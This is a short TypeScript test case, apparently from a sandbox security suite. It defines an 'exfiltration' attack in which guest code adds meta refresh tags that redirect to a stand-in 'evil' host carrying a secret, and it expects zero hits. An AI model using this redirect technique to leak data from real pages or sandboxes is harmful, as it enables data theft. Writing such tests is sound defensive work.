import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '13',
  group: 'exfiltration',
  title: 'leave by a meta refresh',
  expected: '0 hits',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    for (const delay of [0, 1]) {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `${delay};url=${evil}/13/refresh-${delay}?secret`;
      document.head.append(meta);
      await pause(600);
    }
    return null;
  },
  judge: () => undefined,
};
